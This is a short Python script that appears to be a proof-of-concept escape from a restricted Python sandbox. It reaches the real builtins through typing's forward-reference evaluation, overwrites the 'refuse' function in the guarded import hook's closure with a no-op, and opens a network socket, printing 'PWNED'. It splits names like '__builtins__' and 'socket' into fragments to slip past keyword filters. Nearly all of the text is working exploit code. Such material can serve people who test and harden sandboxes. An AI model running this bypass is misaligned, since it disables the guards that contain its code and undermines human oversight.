# socket: the refuse cell in the guarded import's closure replaced, then an AF_INET socket
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import asyncio
gi = rb["glob" + "als"]()["__buil" + "tins__"]["__imp" + "ort__"]  # the guarded import
for c in ga(gi, "__clo" + "sure__"):
    if ga(c.cell_contents, "__na" + "me__", "") == "refuse":
        c.cell_contents = lambda what: None  # shared with the hook's judge()
so = ga(asyncio.events, "soc" + "ket")
print(M, ga(so, "soc" + "ket")(so.AF_INET, so.SOCK_DGRAM))
